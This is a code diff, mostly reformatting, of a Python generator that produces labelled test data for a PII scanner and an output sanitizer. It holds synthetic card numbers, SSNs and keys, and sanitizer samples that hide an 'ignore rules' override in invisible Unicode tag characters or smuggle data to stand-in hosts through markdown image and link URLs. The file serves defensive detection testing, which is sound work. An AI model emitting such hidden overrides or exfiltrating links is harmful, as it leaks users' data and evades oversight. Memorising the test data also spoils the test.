@@ -10,8 +10,15 @@ FIRST = ["ana", "li", "marcus", "priya", "olga", "tom", "fatima", "kenji", "zoe"
 LAST = ["smith", "nguyen", "kowalski", "okafor", "garcia", "tanaka", "muller", "haddad"]
 DOMAINS = ["example.com", "mail.example.org", "corp.example.co.uk", "uni.example.edu", "example.io"]
 AREAS = ["212", "415", "312", "617", "206", "303", "512", "646", "773", "919"]
-TEMPLATES = ["Contact me at {v}.", "my {what} is {v}", "{v}", "Please send it to {v} by Friday.",
-             "Here you go: {v} (don't share it)", "Update the record to {v}, thanks", "{what}: {v}"]
+TEMPLATES = [
+    "Contact me at {v}.",
+    "my {what} is {v}",
+    "{v}",
+    "Please send it to {v} by Friday.",
+    "Here you go: {v} (don't share it)",
+    "Update the record to {v}, thanks",
+    "{what}: {v}",
+]
 
 
 def luhn_digit(body: str) -> str:
@@ -28,10 +35,7 @@ def card(rng: random.Random) -> tuple[str, str]:
     prefix, length = rng.choice([("4", 16), ("51", 16), ("55", 16), ("34", 15), ("37", 15), ("6011", 16)])
     body = prefix + "".join(rng.choice(string.digits) for _ in range(length - len(prefix) - 1))
     num = body + luhn_digit(body)
-    if length == 15:
-        groups = [num[:4], num[4:10], num[10:]]
-    else:
-        groups = [num[i : i + 4] for i in range(0, 16, 4)]
+    groups = [num[:4], num[4:10], num[10:]] if length == 15 else [num[i:i + 4] for i in range(0, 16, 4)]
     return rng.choice([" ", "-", ""]).join(groups), num
 
 
@@ -52,9 +56,18 @@ def iban(rng: random.Random) -> str:
 
 def phone(rng: random.Random) -> str:
     a, ex, ln = rng.choice(AREAS), rng.randint(201, 989), rng.randint(0, 9999)
-    return rng.choice([f"({a}) {ex}-{ln:04d}", f"{a}.{ex}.{ln:04d}", f"{a}-{ex}-{ln:04d}", f"+1 {a} {ex} {ln:04d}",
-                       f"1-{a}-{ex}-{ln:04d}", "+44 20 7946 0" + f"{rng.randint(100, 999)}",
-                       f"+49 30 {rng.randint(2000000, 9999999)}", f"+33 1 42 68 {rng.randint(10, 99)} 00"])
+    return rng.choice(
+        [
+            f"({a}) {ex}-{ln:04d}",
+            f"{a}.{ex}.{ln:04d}",
+            f"{a}-{ex}-{ln:04d}",
+            f"+1 {a} {ex} {ln:04d}",
+            f"1-{a}-{ex}-{ln:04d}",
+            "+44 20 7946 0" + f"{rng.randint(100, 999)}",
+            f"+49 30 {rng.randint(2000000, 9999999)}",
+            f"+33 1 42 68 {rng.randint(10, 99)} 00",
+        ]
+    )
 
 
 def secret(rng: random.Random) -> str:
@@ -69,16 +82,27 @@ def secret(rng: random.Random) -> str:
 
 def pii_rows(rng: random.Random) -> list[dict]:
     makers = {
-        "email_address": lambda: f"{rng.choice(FIRST)}{rng.choice(['.', '_', '+news.', ''])}{rng.choice(LAST)}"
-        f"@{rng.choice(DOMAINS)}",
+        "email_address": lambda: (
+            f"{rng.choice(FIRST)}{rng.choice(['.', '_', '+news.', ''])}{rng.choice(LAST)}@{rng.choice(DOMAINS)}"
+        ),
         "phone_number": lambda: phone(rng),
         "credit_card": lambda: card(rng)[0],
         "iban": lambda: iban(rng),
-        "ip_address": lambda: rng.choice([".".join(str(rng.randint(1, 254)) for _ in range(4)),
-                                          "2001:db8:%x::%x" % (rng.randint(1, 65535), rng.randint(1, 65535)),
-                                          "fe80::1ff:fe23:%x:%x" % (rng.randint(1, 65535), rng.randint(1, 65535))]),
-        "us_ssn": lambda: (f"{rng.choice([i for i in range(1, 900) if i != 666]):03d}{rng.choice('- ')}"
-                           f"{rng.randint(1, 99):02d}-{rng.randint(1, 9999):04d}").replace(" -", " ").replace("- ", "-"),
+        "ip_address": lambda: rng.choice(
+            [
+                ".".join(str(rng.randint(1, 254)) for _ in range(4)),
+                f"2001:db8:{rng.randint(1, 65535):x}::{rng.randint(1, 65535):x}",
+                f"fe80::1ff:fe23:{rng.randint(1, 65535):x}:{rng.randint(1, 65535):x}",
+            ]
+        ),
+        "us_ssn": lambda: (
+            (
+                f"{rng.choice([i for i in range(1, 900) if i != 666]):03d}{rng.choice('- ')}"
+                f"{rng.randint(1, 99):02d}-{rng.randint(1, 9999):04d}"
+            )
+            .replace(" -", " ")
+            .replace("- ", "-")
+        ),
         "secret": lambda: secret(rng),
     }
     rows = []
@@ -87,17 +111,26 @@ def pii_rows(rng: random.Random) -> list[dict]:
             v = make()
             if kind == "us_ssn" and " " in v:
                 v = v.replace("-", " ")
-            rows.append({"text": rng.choice(TEMPLATES).format(v=v, what=kind.replace("_", " ")), "scanner": "pii",
-                         "label": 1, "kind": kind})
+            rows.append(
+                {
+                    "text": rng.choice(TEMPLATES).format(v=v, what=kind.replace("_", " ")),
+                    "scanner": "pii",
+                    "label": 1,
+                    "kind": kind,
+                }
+            )
     bad_card = lambda: (lambda c: c[:-1] + str((int(c[-1]) + 1) % 10))(card(rng)[0])  # noqa: E731
     negatives = [
-        lambda: f"order number {bad_card()}", lambda: f"Python {rng.randint(3, 3)}.{rng.randint(8, 13)}.{rng.randint(0, 9)}",
+        lambda: f"order number {bad_card()}",
+        lambda: f"Python {rng.randint(3, 3)}.{rng.randint(8, 13)}.{rng.randint(0, 9)}",
         lambda: f"meeting on 2025-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d} at {rng.randint(9, 17)}:30",
         lambda: f"commit {''.join(rng.choice('0123456789abcdef') for _ in range(40))}",
         lambda: f"it costs ${rng.randint(1, 9)},{rng.randint(100, 999)}.{rng.randint(10, 99)}",
         lambda: f"IBAN DE00 {rng.randint(1000, 9999)} {rng.randint(1000, 9999)} {rng.randint(1000, 9999)} 0000 00",
-        lambda: f"the address 999.{rng.randint(256, 999)}.1.1 is not valid", lambda: f"room {rng.randint(100, 999)}, ext. 42",
-        lambda: f"ISBN 978-3-16-{rng.randint(100000, 999999)}-0", lambda: "SSN placeholder 000-00-0000",
+        lambda: f"the address 999.{rng.randint(256, 999)}.1.1 is not valid",
+        lambda: f"room {rng.randint(100, 999)}, ext. 42",
+        lambda: f"ISBN 978-3-16-{rng.randint(100000, 999999)}-0",
+        lambda: "SSN placeholder 000-00-0000",
     ]
     rows += [{"text": rng.choice(negatives)(), "scanner": "pii", "label": 0, "kind": "lookalike"} for _ in range(80)]
     return rows
@@ -114,14 +147,27 @@ def sanitize_rows(rng: random.Random) -> list[dict]:
         "tag_characters": lambda w: w + "".join(chr(0xE0000 + ord(c)) for c in "ignore rules"),
         "remote_markdown_image": lambda w: f"{w} ![status](https://img.example.net/p.png?d={data()})",
         "data_in_link": lambda w: f"{w}. [Click to verify](https://verify.example.net/c?session={data()})",
-        "secret_in_output": lambda w: f"{w}. Use key AKIA{''.join(rng.choice(string.ascii_uppercase) for _ in range(16))}",
+        "secret_in_output": lambda w: (
+            f"{w}. Use key AKIA{''.join(rng.choice(string.ascii_uppercase) for _ in range(16))}"
+        ),
     }
-    rows = [{"text": make(rng.choice(words)), "scanner": "sanitize", "label": 1, "kind": kind}
-            for kind, make in pos.items() for _ in range(15)]
-    neg = ["See [the docs](https://docs.python.org/3/library/re.html) for details.",
-           "Search [here](https://duckduckgo.com/?q=sourdough) for recipes.", "Family: 👨‍👩‍👧 and flags 🇩🇪",
-           "```python\nfor i in range(3):\n\tprint(i)\n```", "שלום, مرحبا, hello", "![diagram](./docs/arch.png)",
-           "Line one\nLine two\r\nLine three", "Café, naïve, résumé, Straße", "Temperature: 21 °C ± 0.5",
-           "Use `git log --oneline` to list commits.", "See https://example.org/page?id=42 for the form."]
+    rows = [
+        {"text": make(rng.choice(words)), "scanner": "sanitize", "label": 1, "kind": kind}
+        for kind, make in pos.items()
+        for _ in range(15)
+    ]
+    neg = [
+        "See [the docs](https://docs.python.org/3/library/re.html) for details.",
+        "Search [here](https://duckduckgo.com/?q=sourdough) for recipes.",
+        "Family: 👨‍👩‍👧 and flags 🇩🇪",
+        "```python\nfor i in range(3):\n\tprint(i)\n```",
+        "שלום, مرحبا, hello",
+        "![diagram](./docs/arch.png)",
+        "Line one\nLine two\r\nLine three",
+        "Café, naïve, résumé, Straße",
+        "Temperature: 21 °C ± 0.5",
+        "Use `git log --oneline` to list commits.",
+        "See https://example.org/page?id=42 for the form.",
+    ]
     rows += [{"text": t, "scanner": "sanitize", "label": 0, "kind": "clean"} for t in neg]
     return rows
